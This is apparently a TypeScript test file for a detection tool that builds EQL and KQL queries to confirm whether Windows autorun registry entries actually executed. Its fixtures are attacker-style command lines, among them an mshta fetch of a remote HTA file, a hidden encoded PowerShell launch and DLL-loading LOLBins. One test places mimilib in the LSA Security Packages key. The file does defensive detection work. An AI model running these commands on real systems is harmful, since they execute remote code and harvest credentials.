import { describe, expect, it } from 'vitest';
import { compileQuery } from '../../functions/alert/eql/index.ts';
import { readField } from '../../functions/alert/logs/index.ts';
import type { PayloadForm } from '../../functions/alert/ruleset/index.ts';
import { ask } from '../notification/pivot-fixture.ts';
import { utf16 } from './payload-of.ts';

describe('RAN finds the process as Windows starts it', () => {
  const start = (executable: string, ...args: readonly string[]) => ({
    event: { category: ['process'], type: ['start'] },
    host: { id: '5f1c7d0a-3a52-4b0e-9a53-6e6b0a2f9b11', name: 'FIN-WS-042' },
    '@timestamp': '2026-11-24T03:00:00.000Z',
    process: {
      executable,
      name: executable.slice(executable.lastIndexOf('\\') + 1),
      args: [executable, ...args],
      command_line: `"${executable}" ${args.join(' ')}`,
    },
  });
  const SYSTEM = 'C:\\Windows\\System32\\';
  const code = utf16('Get-Date');
  const rows: [data: string, process: ReturnType<typeof start>, form?: PayloadForm][] = [
    ['rundll32.exe a.dll, DllMain', start(`${SYSTEM}rundll32.exe`, 'a.dll,', 'DllMain')],
    [
      '%windir%\\system32\\regsvr32.exe /s %ProgramData%\\x\\a.dll',
      start(`${SYSTEM}regsvr32.exe`, '/s', 'C:\\ProgramData\\x\\a.dll'),
    ],
    ['mshta http://192.0.2.1/a.hta', start(`${SYSTEM}mshta.exe`, 'http://192.0.2.1/a.hta')],
    [
      `powershell -w hidden -enc ${code}`,
      start(`${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`, '-w', 'hidden', '-enc', code),
    ],
    ['cmd.exe /c C:\\T\\a.bat', start(`${SYSTEM}cmd.exe`, '/c', 'C:\\T\\a.bat')],
    ['C:\\T\\a.vbs', start(`${SYSTEM}wscript.exe`, 'C:\\T\\a.vbs')],
    ['C:\\Program Files\\A B\\c.exe /x', start('C:\\Program Files\\A B\\c.exe', '/x')],
    ['explorer.exe,"C:\\T t\\b.exe"', start('C:\\T t\\b.exe'), 'shell'],
    ['%SystemRoot%\\explorer.exe, C:\\T\\explorer.exe', start('C:\\T\\explorer.exe'), 'shell'],
    ['msiexec /i C:\\T\\a.msi /q', start(`${SYSTEM}msiexec.exe`, '/i', 'C:\\T\\a.msi', '/q')],
    [
      '%COMSPEC% /Q /c echo cd > C:\\T\\e.bat & %COMSPEC% /Q /c %TEMP%\\e.bat',
      start(`${SYSTEM}cmd.exe`, '/Q', '/c', 'echo', 'cd', '>', 'C:\\T\\e.bat', '&', `${SYSTEM}cmd.exe`),
    ],
    ['"%LOCALAPPDATA%\\q\\b.exe" -s', start('C:\\Users\\ann\\AppData\\Local\\q\\b.exe', '-s')],
  ];
  it.each(rows)('%s', (data, process, form = 'command') => {
    const [pivot] = ask({ registry: { data: [data] }, location: { payload: form } }, 'did-it-run', 'EQL');
    const text = pivot!.text!;
    const query = compileQuery(text, { readField });
    expect([text, query.matches(process)]).toEqual([text, true]);
    const { executable, name } = process.process;
    const other = start(`${SYSTEM}${name}`, 'C:\\Windows\\other.txt');
    expect([text, executable.includes('System32') && query.matches(other)]).toEqual([text, false]);
  });
});

it('RAN looks for the packages of LSASS by the names of their files, and not for those of Windows', () => {
  const key = 'SYSTEM\\CurrentControlSet\\Control\\Lsa';
  const registry = {
    key,
    value: 'Security Packages',
    data: ['kerberos', 'msv1_0', 'mimilib', 'C:\\T\\b.dll'],
  };
  const [pivot] = ask({ registry, location: null }, 'did-it-run', 'KQL');
  expect(pivot!.text).toContain('and (dll.name : "mimilib.dll" or dll.path : "C:\\\\T\\\\b.dll") and');
});
